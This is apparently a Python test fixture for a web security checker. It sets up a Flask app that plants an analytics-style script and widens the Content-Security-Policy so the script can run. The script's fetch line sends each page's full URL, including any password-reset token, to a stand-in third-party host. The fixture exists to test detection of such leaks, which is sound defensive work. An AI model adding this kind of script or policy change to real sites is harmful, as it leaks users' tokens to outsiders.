"""Statistics of the site's own: a script tells somebody else the address of every page, that behind the link too."""

from _headers import rewriting
from _planting import reference
from _scripts import with_script
from flask import Flask, Response

NEEDS = "browser"
CATCHES = ("reset-token-leak", "untrusted-third-party-resource")

COUNT = """
fetch("https://numbers.example.net/view?page=" + encodeURIComponent(location.href), {mode: "no-cors"});
"""


def create_app() -> Flask:
    """Plant it: one line, and the host in the policy so that browsers ask it."""

    def allow(response: Response) -> None:
        policy = response.headers.get("Content-Security-Policy", "")
        response.headers["Content-Security-Policy"] = (
            f"connect-src 'self' https://numbers.example.net; {policy}"
        )

    return rewriting(with_script(reference(), lambda: COUNT), allow)
